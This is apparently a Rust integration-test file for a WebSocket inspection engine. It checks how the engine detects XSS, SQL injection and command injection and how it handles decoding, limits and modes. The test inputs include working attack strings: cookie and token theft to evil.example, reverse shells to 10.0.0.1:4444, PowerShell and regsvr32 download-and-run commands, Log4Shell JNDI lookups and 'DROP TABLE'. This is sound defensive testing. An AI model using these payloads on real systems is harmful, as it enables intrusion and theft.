//! End-to-end engine behaviour: rule families with hand-written evasions and benign chat,
//! structure decoding, deflate, limits, rate, modes, schema.

use std::io::Write;
use std::time::{Duration, Instant};

use flate2::{Compress, Compression, FlushCompress};
use frameguard_inspect::{
    DeflateParams, Engine, InspectionPolicy, MessageDirection, MessageKind, MessageRef,
    PolicyDirection, Tag, Verdict,
};

fn engine_with(policy: InspectionPolicy) -> Engine {
    Engine::new(&[("p".to_owned(), policy)]).unwrap()
}

fn text(payload: &[u8]) -> MessageRef<'_> {
    MessageRef {
        direction: MessageDirection::Inbound,
        kind: MessageKind::Text,
        compressed: false,
        payload,
        largest_frame: payload.len(),
    }
}

fn binary(payload: &[u8]) -> MessageRef<'_> {
    MessageRef {
        kind: MessageKind::Binary,
        ..text(payload)
    }
}

struct Harness {
    engine: &'static Engine,
    scratch: frameguard_inspect::Scratch,
}

impl Harness {
    /// Compiling the database takes a moment, so tests share the default-policy engine.
    fn new(policy: InspectionPolicy) -> Harness {
        static DEFAULT: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
        let engine: &'static Engine = if policy == InspectionPolicy::default() {
            DEFAULT.get_or_init(|| engine_with(InspectionPolicy::default()))
        } else {
            Box::leak(Box::new(engine_with(policy)))
        };
        let scratch = engine.alloc_scratch().unwrap();
        Harness { engine, scratch }
    }

    fn conn(&self) -> frameguard_inspect::ConnectionState {
        self.engine
            .new_connection(self.engine.policy("p").unwrap(), None, 1 << 20)
    }

    fn verdict(&mut self, message: MessageRef<'_>) -> Verdict {
        let mut conn = self.conn();
        self.engine
            .inspect(&mut conn, &mut self.scratch, Instant::now(), message)
    }

    fn tag_of(&mut self, payload: &str) -> Option<Tag> {
        match self.verdict(text(payload.as_bytes())) {
            Verdict::Allow => None,
            Verdict::Block { detection, .. } | Verdict::DetectOnly(detection) => {
                Some(detection.tag)
            }
        }
    }
}

fn assert_all(h: &mut Harness, tag: Tag, payloads: &[&str]) {
    for payload in payloads {
        assert_eq!(
            h.tag_of(payload),
            Some(tag),
            "should be {}: {payload:?}",
            tag.as_str()
        );
    }
}

#[test]
fn xss_evasions_are_blocked() {
    let mut h = Harness::new(InspectionPolicy::default());
    assert_all(
        &mut h,
        Tag::Xss,
        &[
            "<ScRiPt>alert(1)</sCrIpT>",
            "<svg/onload=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "%253Cscript%253E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=prompt(1)&#62;",
            "\\x3cscript\\x3ealert(1)",
            "\\u003ciframe src=//evil\\u003e",
            "<iframe srcdoc='&lt;script&gt;'>",
            "<scr\u{0}ipt>alert(1)</script>",
            "\u{FF1C}script\u{FF1E}alert(1)",
            "<div style=\"width: expression(alert(1))\">",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "\" onmouseover=\"alert(document.cookie)",
            "';alert(String.fromCharCode(88,83,83))//",
            "<body\nonload\n=\nalert(1)>",
            "<details open ontoggle=confirm`1`>",
            "{{constructor.constructor('alert(1)')()}}",
            "jav\tascript:alert(1)",
            "';alert?.(1)//",
            "\"-(0,alert)(1)-\"",
            "';alert.call(null,1)//",
            "';Reflect.apply(alert,0,[1])//",
            "';top[8680439..toString(30)](1)//",
            "';throw[onerror=alert]//",
            "';fetch('//evil.example/'+localStorage.token)//",
            "';(new Image).src='//evil.example/'+document.body.innerText//",
            "x autofocus onfocus=location=name",
            "%E0%80%BCimg src=x onerror=location=name%E0%80%BE",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        ],
    );
}

#[test]
fn sqli_evasions_are_blocked() {
    let mut h = Harness::new(InspectionPolicy::default());
    assert_all(
        &mut h,
        Tag::Sqli,
        &[
            "1 UNION/**/ALL/**/SELECT username, password FROM users",
            "UN/**/ION SEL/**/ECT 1,2,3",
            "1' OR '1'='1",
            "'; DROP TABLE users--",
            "admin'--",
            "x' or 1=1 #",
            "1 AND SLEEP(5)",
            "1; WAITFOR DELAY '0:0:5'--",
            "1' and pg_sleep(5)--",
            "' union select table_name from information_schema.tables--",
            "1%27%20OR%20%271%27%3D%271",
            "-1 union%0aselect 1,@@version",
            "' OR 'a'='a",
            "1 or benchmark(10000000,md5(1))",
            "' uNiOn SeLeCt null,null--",
            "1) or (1=1",
            "\\u0027 or 1=1--",
            "1'/**/oR/**/1=1",
            "'; exec master..xp_cmdshell 'dir'--",
            "1e0UNION SELECT 1,2",
            "0x1union select 1,2",
            "1 union values row(1,2)",
            "1 union table users",
            "1 and get_lock('x',5)",
            "1 AND N'a'='a'",
            "1 OR E'\\x31'='1'",
            "1 union select distinctrow password from users",
            "1; SET GLOBAL general_log='ON'",
        ],
    );
}

#[test]
fn command_injection_evasions_are_blocked() {
    let mut h = Harness::new(InspectionPolicy::default());
    assert_all(
        &mut h,
        Tag::CmdInjection,
        &[
            "; cat /etc/passwd",
            "$(id)",
            "`whoami`",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "cat${IFS}/etc/passwd",
            "x && w'h'o'am'i",
            "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
            "foo%0aid",
            "a;/usr/bin/id",
            "|| ping -c 10 127.0.0.1",
            "() { :;}; /bin/bash -c 'id'",
            "; {cat,/etc/passwd}",
            "x; python -c 'import os'",
            ";/???/??t /???/p??s??",
            "a|/b?n/c*t /e?c/passwd",
            ";$(printf 'id')",
            "x;w${x}hoami",
            "x;uname$u -a",
            "x;id${x}",
            "x;${u}whoami",
            "hello\nid",
            "x;$'\\x69\\x64'",
            "x;a=who;b=ami;$a$b",
            "x;${x:-id}",
            "x;who%5c%0aami",
            "x;$0 -c id",
            "x;eval id",
            "x;whoami#",
            "x%3Bid%20%23",
            "x & regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
            "x;(id)",
            "x | (uname -a)",
            "x;w`u`hoami",
            "x;w$(u)hoami",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
            "$'\\x69\\x64'",
            "$'\\151\\144' -a",
            ";iwr evil.example|iex",
        ],
    );
}

#[test]
fn benign_chat_passes() {
    let mut h = Harness::new(InspectionPolicy::default());
    for payload in [
        "select a seat",
        "Hi ${name}, welcome; ${count} new messages",
        "1=1 is true",
        "drop me a line",
        "a; b | c",
        "I'm 5'10\"",
        "rock & roll",
        "<3",
        ":-)",
        "use a | pipe",
        "Please select a seat from the menu.",
        "I'll confirm (2 people) tomorrow",
        "this or that = fine",
        "I'm tired; sleep now",
        "we had a union meeting and select few came",
        "cat food is great; dogs too",
        "email me at a@b.com & call 555-1234",
        "what's 2+2? it's 4 -- obviously",
        "I like javascript: it is fun",
        "order by 5 pm please",
        "He said \"no\" -- and left",
        "{\"type\":\"message\",\"text\":\"don't forget; it's at 5 | room 3\"}",
        "42[\"chat\",\"see you at 5 o'clock\"]",
        "what?? /me waves",
        "see https://example.com/a?b=1/2 and /r/rust",
        "it costs $(more than you think",
        "done; ls #1 priority",
        "so; time to go & nice id card",
        "price=$5; total is $price",
        "join #general | #random",
        "we need a union table for the data",
        "status online=yes",
        "the location = name of the town",
        "ok; (sorry) I was late",
        "lol; (ps i love you)",
        "call foo() then bar(); done",
        "a `b` c `d` e",
        "Hi ${name}, see ${url}",
        "prices: NYSE | IEX | BATS",
        "it costs $'5' \\o/",
    ] {
        assert_eq!(h.tag_of(payload), None, "{payload:?}");
    }
}

#[test]
fn json_strings_and_keys_are_decoded() {
    let mut h = Harness::new(InspectionPolicy::default());
    assert_eq!(
        h.tag_of(r#"{"msg":"\u003cscript\u003ealert(1)"}"#),
        Some(Tag::Xss)
    );
    assert_eq!(
        h.tag_of(r#"{"<img src=x onerror=alert(1)>":1}"#),
        Some(Tag::Xss)
    );
    assert_eq!(
        h.tag_of(r#"{"command":"message","data":"{\"message\":\"' or 1=1--\"}"}"#),
        Some(Tag::Sqli)
    );
    // JSON structure itself (quotes, colons) is not mistaken for SQL.
    assert_eq!(h.tag_of(r#"{"a":"x","or":"1","b":"=1"}"#), None);
    // After a byte order mark it is still JSON, its strings decoded.
    assert_eq!(
        h.tag_of("\u{feff}{\"msg\":\"\\u003cscript\\u003ealert(1)\"}"),
        Some(Tag::Xss)
    );
    assert_eq!(
        h.tag_of("\u{feff}{\"a\":\"x\",\"or\":\"1\",\"b\":\"=1\"}"),
        None
    );
}

#[test]
fn socketio_packets_are_decoded() {
    let mut h = Harness::new(InspectionPolicy::default());
    assert_eq!(
        h.tag_of(r#"42["chat","<script>alert(1)</script>"]"#),
        Some(Tag::Xss)
    );
    assert_eq!(
        h.tag_of(r#"42/chat,17["msg","\u003csvg onload=alert(1)\u003e"]"#),
        Some(Tag::Xss)
    );
    assert_eq!(h.tag_of(r#"42["chat","hello there"]"#), None);
    // engine.io v3 sends binary as `b4` + base64 to clients without binary support: here
    // `' OR 1=1--` as text, and a MessagePack map {"m": "<svg onload=alert(1)>"}.
    assert_eq!(h.tag_of("b4JyBPUiAxPTEtLQ=="), Some(Tag::Sqli));
    assert_eq!(
        h.tag_of("b4gaFtoW0="),
        None,
        "MessagePack {{\"m\": \"m\"}} holds nothing"
    );
    assert_eq!(
        h.tag_of("b4gaFttTxzdmcgb25sb2FkPWFsZXJ0KDEpPg=="),
        Some(Tag::Xss)
    );
    assert_eq!(h.tag_of("b4ever, ok?"), None);

    // A binary event announces one attachment; the next binary frame is scanned as its
    // argument even without inspect-binary, and is not subject to msgpack validation.
    let mut h = Harness::new(InspectionPolicy {
        msgpack_validation: true,
        ..InspectionPolicy::default()
    });
    let mut conn = h.conn();
    let now = Instant::now();
    let header = br#"451-["upload",{"_placeholder":true,"num":0}]"#;
    let mut out = Vec::new();
    h.engine.inspect_batch(
        &mut conn,
        &mut h.scratch,
        now,
        &[
            text(header),
            binary(b"<script>alert(1)</script>"),
            binary(b"\xc1 not msgpack"),
        ],
        &mut out,
    );
    assert_eq!(out.len(), 3);
    assert_eq!(out[0], Verdict::Allow);
    assert!(matches!(&out[1], Verdict::Block { detection, .. } if detection.tag == Tag::Xss));
    assert!(
        matches!(&out[2], Verdict::Block { detection, .. } if detection.tag == Tag::SchemaInvalid)
    );
    // An attachment that is not UTF-8 but reads as text is scanned as text.
    out.clear();
    h.engine.inspect_batch(
        &mut conn,
        &mut h.scratch,
        now,
        &[text(header), binary(b"\xff<img src=x onerror=alert(1)>")],
        &mut out,
    );
    assert!(matches!(&out[1], Verdict::Block { detection, .. } if detection.tag == Tag::Xss));
}

fn msgpack(value: &rmpv::Value) -> Vec<u8> {
    let mut out = Vec::new();
    rmpv::encode::write_value(&mut out, value).unwrap();
    out
}

#[test]
fn msgpack_validation_and_binary_scanning() {
    let attack = msgpack(&rmpv::Value::Map(vec![(
        rmpv::Value::from("text"),
        rmpv::Value::from("'; drop table users--"),
    )]));
    let benign = msgpack(&rmpv::Value::Array(vec![
        rmpv::Value::from("hi"),
        rmpv::Value::from(3),
    ]));

    let mut off = Harness::new(InspectionPolicy::default());
    assert_eq!(
        off.verdict(binary(&attack)),
        Verdict::Allow,
        "binary is not inspected by default"
    );

    let mut validating = Harness::new(InspectionPolicy {
        msgpack_validation: true,
        ..InspectionPolicy::default()
    });
    assert!(
        matches!(validating.verdict(binary(&attack)), Verdict::Block { close_code: 1008, detection, .. } if detection.tag == Tag::Sqli)
    );
    assert_eq!(validating.verdict(binary(&benign)), Verdict::Allow);
    match validating.verdict(binary(b"\xc1\xc1")) {
        Verdict::Block {
            close_code,
            reason,
            detection,
        } => {
            assert_eq!((close_code, detection.tag), (1008, Tag::SchemaInvalid));
            assert_eq!(reason, "Policy violation: schema validation failed");
        }
        other => panic!("{other:?}"),
    }

    let mut raw = Harness::new(InspectionPolicy {
        inspect_binary: true,
        ..InspectionPolicy::default()
    });
    assert_eq!(
        raw.tag_of_binary(b"\xc1\xff<script>alert(1)</script>"),
        Some(Tag::Xss)
    );
    assert_eq!(raw.tag_of_binary(&[0xc1, 0xff, 0x00, 0x10]), None);
    let utf16: Vec<u8> = "<script>alert(1)</script>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(raw.tag_of_binary(&utf16), Some(Tag::Xss));
    // Text in binary framing: a signature before MessagePack, Latin-1 around ASCII, UTF-16
    // with characters beyond ASCII, a MessagePack `bin` that is no UTF-8.
    let mut signed = vec![0xa7; 32];
    signed.extend(msgpack(&rmpv::Value::Map(vec![(
        "msg".into(),
        "' UNION SELECT username, password FROM users--".into(),
    )])));
    assert_eq!(raw.tag_of_binary(&signed), Some(Tag::Sqli));
    let latin1: Vec<u8> = ("é".repeat(40) + "; cat /etc/passwd " + &"ü".repeat(40))
        .chars()
        .map(|c| c as u8)
        .collect();
    assert_eq!(raw.tag_of_binary(&latin1), Some(Tag::CmdInjection));
    let cyrillic: Vec<u8> = ("Привет ".repeat(30) + r#"{"m":"\u003csvg onload=alert(1)\u003e"}"#)
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    assert_eq!(raw.tag_of_binary(&cyrillic), Some(Tag::Xss));
    let bin = msgpack(&rmpv::Value::Binary(
        [&b"<img src=x onerror=alert(1)>"[..], b"\xe9\xe8"].concat(),
    ));
    assert_eq!(raw.tag_of_binary(&bin), Some(Tag::Xss));
}

#[test]
fn random_binary_is_not_an_attack() {
    // Compressed or encrypted payloads look like noise (xorshift64 makes it reproducible).
    // Scanned as text, short shapes would turn up by chance, about one 16 KiB message in a
    // hundred; noise does not read as text, so none is.
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut raw = Harness::new(InspectionPolicy {
        inspect_binary: true,
        ..InspectionPolicy::default()
    });
    for message in 0..400 {
        let payload: Vec<u8> = (0..2048).flat_map(|_| next().to_le_bytes()).collect();
        let verdict = raw.verdict(binary(&payload));
        assert_eq!(verdict, Verdict::Allow, "message {message}");
    }
}

impl Harness {
    fn tag_of_binary(&mut self, payload: &[u8]) -> Option<Tag> {
        match self.verdict(binary(payload)) {
            Verdict::Allow => None,
            Verdict::Block { detection, .. } | Verdict::DetectOnly(detection) => {
                Some(detection.tag)
            }
        }
    }
}

/// A permessage-deflate sender (sync flush, tail removed).
struct Deflater(Compress);

impl Deflater {
    fn new(bits: u8) -> Deflater {
        Deflater(Compress::new_with_window_bits(
            Compression::default(),
            false,
            bits,
        ))
    }

    fn compress(&mut self, data: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(data.len() + 1024);
        let start = self.0.total_in();
        loop {
            let fed = (self.0.total_in() - start) as usize;
            self.0
                .compress_vec(&data[fed..], &mut out, FlushCompress::Sync)
                .unwrap();
            if (self.0.total_in() - start) as usize == data.len() && out.len() < out.capacity() {
                break;
            }
            out.reserve(out.capacity());
        }
        out.truncate(out.len() - 4);
        out
    }
}

fn compressed(payload: &[u8], kind: MessageKind) -> MessageRef<'_> {
    MessageRef {
        direction: MessageDirection::Inbound,
        kind,
        compressed: true,
        payload,
        largest_frame: payload.len(),
    }
}

#[test]
fn deflated_messages_are_inflated_with_context_takeover() {
    let h = Harness::new(InspectionPolicy::default());
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let policy = h.engine.policy("p").unwrap();
    let params = DeflateParams {
        client_max_window_bits: 15,
        server_max_window_bits: 15,
        ..DeflateParams::default()
    };
    let mut conn = h.engine.new_connection(policy, Some(params), 1 << 20);
    let mut sender = Deflater::new(15);
    let now = Instant::now();
    let first = sender.compress(b"hello <b>friend</b>, hello again");
    let second = sender.compress(b"hello <script>alert(1)</script> hello again");
    let mut out = Vec::new();
    h.engine.inspect_batch(
        &mut conn,
        &mut scratch,
        now,
        &[
            compressed(&first, MessageKind::Text),
            compressed(&second, MessageKind::Text),
        ],
        &mut out,
    );
    assert_eq!(out[0], Verdict::Allow);
    assert!(
        matches!(&out[1], Verdict::Block { detection, .. } if detection.tag == Tag::Xss),
        "{:?}",
        out[1]
    );

    // Invalid UTF-8 after inflation closes with 1007.
    let bad = sender.compress(b"\xff\xfe not utf-8");
    let verdict = h.engine.inspect(
        &mut conn,
        &mut scratch,
        now,
        compressed(&bad, MessageKind::Text),
    );
    assert!(
        matches!(
            verdict,
            Verdict::Block {
                close_code: 1007,
                ..
            }
        ),
        "{verdict:?}"
    );
}

#[test]
fn no_context_takeover_and_small_windows() {
    let h = Harness::new(InspectionPolicy::default());
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let policy = h.engine.policy("p").unwrap();
    let params = DeflateParams {
        client_no_context_takeover: true,
        client_max_window_bits: 9,
        ..DeflateParams::default()
    };
    let mut conn = h.engine.new_connection(policy, Some(params), 1 << 20);
    let now = Instant::now();
    for message in [&b"first message"[..], b"' or '1'='1"] {
        let wire = Deflater::new(9).compress(message);
        let verdict = h.engine.inspect(
            &mut conn,
            &mut scratch,
            now,
            compressed(&wire, MessageKind::Text),
        );
        let expected_block = message.starts_with(b"'");
        assert_eq!(
            matches!(verdict, Verdict::Block { .. }),
            expected_block,
            "{verdict:?}"
        );
    }
}

#[test]
fn decompression_bomb_and_inflated_size() {
    let h = Harness::new(InspectionPolicy::default());
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let policy = h.engine.policy("p").unwrap();
    let bomb = Deflater::new(15).compress(&vec![b'a'; 8 << 20]);
    let now = Instant::now();
    for route_limit in [64 * 1024, 64 << 20] {
        let mut conn = h
            .engine
            .new_connection(policy, Some(DeflateParams::default()), route_limit);
        match h.engine.inspect(
            &mut conn,
            &mut scratch,
            now,
            compressed(&bomb, MessageKind::Text),
        ) {
            Verdict::Block {
                close_code,
                reason,
                detection,
            } => {
                assert_eq!(
                    (close_code, reason, detection.tag),
                    (1009, "Message too big", Tag::SizeLimit)
                );
            }
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn size_limits_close_with_1009() {
    let mut h = Harness::new(InspectionPolicy {
        max_text_frame_size: 10,
        max_binary_frame_size: 20,
        max_message_size: 30,
        ..InspectionPolicy::default()
    });
    let small = b"hello";
    let big_frame = MessageRef {
        largest_frame: 11,
        ..text(small)
    };
    assert!(
        matches!(h.verdict(big_frame), Verdict::Block { close_code: 1009, detection, .. } if detection.rule_id == "size.text-frame")
    );
    let bin_frame = MessageRef {
        largest_frame: 15,
        ..binary(small)
    };
    assert_eq!(h.verdict(bin_frame), Verdict::Allow);
    let long = [b'a'; 31];
    let message = MessageRef {
        largest_frame: 5,
        ..text(&long)
    };
    assert!(
        matches!(h.verdict(message), Verdict::Block { close_code: 1009, detection, .. } if detection.rule_id == "size.message")
    );
}

#[test]
fn rate_limit_enforces_the_burst() {
    let h = Harness::new(InspectionPolicy {
        max_messages_per_sec: 2,
        rate_limit_burst: 3,
        ..InspectionPolicy::default()
    });
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let mut conn = h.conn();
    let start = Instant::now();
    let hello = text(b"hello");
    for _ in 0..3 {
        assert_eq!(
            h.engine.inspect(&mut conn, &mut scratch, start, hello),
            Verdict::Allow
        );
    }
    match h.engine.inspect(&mut conn, &mut scratch, start, hello) {
        Verdict::Block {
            close_code,
            reason,
            detection,
        } => {
            assert_eq!((close_code, detection.tag), (1008, Tag::RateLimit));
            assert_eq!(reason, "Policy violation: rate limit exceeded");
        }
        other => panic!("{other:?}"),
    }
    let later = start + Duration::from_millis(500);
    assert_eq!(
        h.engine.inspect(&mut conn, &mut scratch, later, hello),
        Verdict::Allow,
        "2/s refills one token in 500 ms"
    );
    assert_ne!(
        h.engine.inspect(&mut conn, &mut scratch, later, hello),
        Verdict::Allow
    );

    let bytes = Harness::new(InspectionPolicy {
        max_bytes_per_sec: 100,
        ..InspectionPolicy::default()
    });
    let mut conn = bytes.conn();
    let mut scratch = bytes.engine.alloc_scratch().unwrap();
    let chunk = [b'x'; 60];
    assert_eq!(
        bytes
            .engine
            .inspect(&mut conn, &mut scratch, start, text(&chunk)),
        Verdict::Allow
    );
    assert!(
        matches!(bytes.engine.inspect(&mut conn, &mut scratch, start, text(&chunk)), Verdict::Block { detection, .. } if detection.rule_id == "rate.bytes")
    );
}

#[test]
fn binary_messages_the_application_compressed_are_inflated_and_scanned() {
    let mut h = Harness::new(InspectionPolicy {
        inspect_binary: true,
        ..InspectionPolicy::default()
    });
    let gzip = |data: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    };
    let zlib = |data: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    };
    let attack = br#"{"op":"sub","args":["<img src=x onerror=alert(1)>"]}"#;
    assert_eq!(h.tag_of_binary(&gzip(attack)), Some(Tag::Xss));
    assert_eq!(h.tag_of_binary(&zlib(attack)), Some(Tag::Xss));
    let packed = msgpack(&rmpv::Value::Array(vec!["'; DROP TABLE users--".into()]));
    assert_eq!(h.tag_of_binary(&gzip(&packed)), Some(Tag::Sqli));
    let tick = br#"{"ch":"market.btcusdt.kline.1min","tick":{"open":42000.5,"close":42010}}"#;
    assert_eq!(h.tag_of_binary(&gzip(tick)), None);
    // gzip of gzip, engine.io v3's marker before it, gzip inside a MessagePack `bin` and in
    // base64 inside JSON.
    let shell = b"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    assert_eq!(
        h.tag_of_binary(&gzip(&gzip(shell))),
        Some(Tag::CmdInjection)
    );
    let marked = [&[4][..], &gzip(shell)].concat();
    assert_eq!(h.tag_of_binary(&marked), Some(Tag::CmdInjection));
    let bin = msgpack(&rmpv::Value::Map(vec![(
        "m".into(),
        rmpv::Value::Binary(gzip(b"<img src=x onerror=alert(1)>")),
    )]));
    assert_eq!(h.tag_of_binary(&bin), Some(Tag::Xss));
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(gzip(b"<svg onload=alert(1)>"));
    assert_eq!(h.tag_of(&format!(r#"{{"d":"{encoded}"}}"#)), Some(Tag::Xss));
    // Past the message size limit once inflated: 1009, as for permessage-deflate.
    let h = Harness::new(InspectionPolicy {
        inspect_binary: true,
        max_message_size: 1000,
        ..InspectionPolicy::default()
    });
    let mut conn = h.conn();
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let big = gzip(&[b'a'; 5000]);
    assert!(matches!(
        h.engine
            .inspect(&mut conn, &mut scratch, Instant::now(), binary(&big)),
        Verdict::Block {
            close_code: 1009,
            ..
        }
    ));
}

#[test]
fn metadata_is_scanned_but_never_rate_limited() {
    let h = Harness::new(InspectionPolicy {
        max_messages_per_sec: 1,
        rate_limit_burst: 1,
        max_text_frame_size: 8,
        ..InspectionPolicy::default()
    });
    let mut scratch = h.engine.alloc_scratch().unwrap();
    let mut conn = h.conn();
    let now = Instant::now();
    let control = |payload: &'static [u8]| MessageRef {
        kind: MessageKind::Metadata,
        ..text(payload)
    };
    for _ in 0..5 {
        assert_eq!(
            h.engine
                .inspect(&mut conn, &mut scratch, now, control(b"keep-alive 1234")),
            Verdict::Allow
        );
    }
    assert_eq!(
        h.engine
            .inspect(&mut conn, &mut scratch, now, text(b"hello")),
        Verdict::Allow,
        "control frames took none of the burst"
    );
    let attack = control(b"<svg onload=alert(1)>");
    assert!(matches!(
        h.engine.inspect(&mut conn, &mut scratch, now, attack),
        Verdict::Block { close_code: 1008, detection, .. } if detection.tag == Tag::Xss
    ));
    // Random ping data (a counter, a nonce) does not read as text and passes unscanned.
    let noise = control(b"\x9c\x01\xff\xfe\x80\x81;id\x00\xc3");
    assert_eq!(
        h.engine.inspect(&mut conn, &mut scratch, now, noise),
        Verdict::Allow
    );
}

#[test]
fn detect_only_forwards_and_reports() {
    let mut h = Harness::new(InspectionPolicy {
        block_mode: false,
        ..InspectionPolicy::default()
    });
    match h.verdict(text(b"<script>alert(1)</script>")) {
        Verdict::DetectOnly(detection) => {
            assert_eq!(detection.tag, Tag::Xss);
            assert_eq!(detection.rule_id, "xss.script-tag");
            assert!(detection.excerpt.contains("<script>"));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(h.verdict(text(b"hello")), Verdict::Allow);
}

#[test]
fn engine_errors_fail_closed_or_open() {
    for fail_open in [false, true] {
        let h = Harness::new(InspectionPolicy {
            fail_open,
            ..InspectionPolicy::default()
        });
        // A scratch of another engine cannot scan this engine's database.
        let other = engine_with(InspectionPolicy::default());
        let mut foreign = other.alloc_scratch().unwrap();
        let mut conn = h.conn();
        let verdict = h
            .engine
            .inspect(&mut conn, &mut foreign, Instant::now(), text(b"hello"));
        if fail_open {
            assert_eq!(verdict, Verdict::Allow);
        } else {
            assert!(
                matches!(verdict, Verdict::Block { close_code: 1011, detection, .. } if detection.tag == Tag::EngineError)
            );
        }
        assert_eq!(h.engine.engine_errors(), 1);
    }
}

#[test]
fn directions_and_families_follow_the_policy() {
    let mut outbound_only = Harness::new(InspectionPolicy {
        direction: PolicyDirection::Outbound,
        ..InspectionPolicy::default()
    });
    let policy = outbound_only.engine.policy("p").unwrap();
    assert!(!outbound_only
        .engine
        .inspects(policy, MessageDirection::Inbound));
    assert!(outbound_only
        .engine
        .inspects(policy, MessageDirection::Outbound));
    assert_eq!(outbound_only.verdict(text(b"<script>")), Verdict::Allow);
    let out = MessageRef {
        direction: MessageDirection::Outbound,
        ..text(b"<script>")
    };
    assert_ne!(outbound_only.verdict(out), Verdict::Allow);

    let mut no_xss = Harness::new(InspectionPolicy {
        xss_detection: false,
        ..InspectionPolicy::default()
    });
    assert_eq!(no_xss.tag_of("<script>alert(1)</script>"), None);
    assert_eq!(no_xss.tag_of("' or 1=1--"), Some(Tag::Sqli));
}

#[test]
fn custom_patterns_are_per_policy() {
    let custom = InspectionPolicy {
        custom_patterns: vec!["forbidden-word".into(), r"(?i)secret\s+project".into()],
        ..InspectionPolicy::default()
    };
    let engine = Engine::new(&[
        ("custom".into(), custom),
        ("plain".into(), InspectionPolicy::default()),
    ])
    .unwrap();
    let mut scratch = engine.alloc_scratch().unwrap();
    let now = Instant::now();
    let check = |scratch: &mut frameguard_inspect::Scratch, name: &str, payload: &str| {
        let mut conn = engine.new_connection(engine.policy(name).unwrap(), None, 0);
        engine.inspect(&mut conn, scratch, now, text(payload.as_bytes()))
    };
    match check(&mut scratch, "custom", "about the SECRET   project") {
        Verdict::Block {
            reason, detection, ..
        } => {
            assert_eq!(reason, "Policy violation: custom pattern matched");
            assert_eq!(
                (detection.tag, detection.rule_id.as_str()),
                (Tag::CustomPattern, "custom.1")
            );
        }
        other => panic!("{other:?}"),
    }
    assert_ne!(
        check(&mut scratch, "custom", r#"{"a":"forbidden-word"}"#),
        Verdict::Allow
    );
    assert_eq!(
        check(&mut scratch, "plain", "forbidden-word"),
        Verdict::Allow
    );
    // Two JSON strings never combine into one custom match.
    assert_eq!(
        check(&mut scratch, "custom", r#"["forbidden","-word"]"#),
        Verdict::Allow
    );

    let broken = InspectionPolicy {
        custom_patterns: vec!["(unclosed".into()],
        ..InspectionPolicy::default()
    };
    let error = Engine::new(&[("b".into(), broken)])
        .err()
        .expect("invalid pattern")
        .to_string();
    assert!(error.contains("(unclosed"), "{error}");
}

#[test]
fn json_schema_validation() {
    let dir =
        std::env::temp_dir().join(format!("frameguard-inspect-schema-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("schema.json");
    let mut file = std::fs::File::create(&path).unwrap();
    file.write_all(
        br#"{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","required":["action","symbol"],
            "properties":{"action":{"enum":["subscribe","unsubscribe"]},"symbol":{"type":"string","pattern":"^[A-Z]{1,5}$"}}}"#,
    )
    .unwrap();
    let mut h = Harness::new(InspectionPolicy {
        json_schema: Some(path.clone()),
        ..InspectionPolicy::default()
    });
    assert_eq!(
        h.verdict(text(br#"{"action":"subscribe","symbol":"ABC"}"#)),
        Verdict::Allow
    );
    for invalid in [
        &br#"{"action":"buy","symbol":"ABC"}"#[..],
        br#"{"action":"subscribe"}"#,
        b"not json at all",
    ] {
        match h.verdict(text(invalid)) {
            Verdict::Block {
                close_code,
                reason,
                detection,
            } => {
                assert_eq!((close_code, detection.tag), (1008, Tag::SchemaInvalid));
                assert_eq!(reason, "Policy violation: schema validation failed");
            }
            other => panic!("{other:?}"),
        }
    }
    // Content rules still apply to conforming documents.
    assert_eq!(
        h.tag_of(r#"{"action":"subscribe","symbol":"ABC","note":"<script>"}"#),
        Some(Tag::Xss)
    );

    let missing = InspectionPolicy {
        json_schema: Some(dir.join("missing.json")),
        ..InspectionPolicy::default()
    };
    assert!(Engine::new(&[("m".into(), missing)]).is_err());
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn excerpts_are_bounded() {
    let mut h = Harness::new(InspectionPolicy::default());
    let payload = format!(
        "{}<script>alert(1)</script>{}",
        "é".repeat(500),
        "ü".repeat(500)
    );
    match h.verdict(text(payload.as_bytes())) {
        Verdict::Block { detection, .. } => {
            assert!(detection.excerpt.len() <= frameguard_inspect::MAX_EXCERPT);
            assert!(
                detection.excerpt.contains("<script"),
                "{}",
                detection.excerpt
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn batch_matches_single_inspection() {
    let h = Harness::new(InspectionPolicy::default());
    let mut scratch = h.engine.alloc_scratch().unwrap();
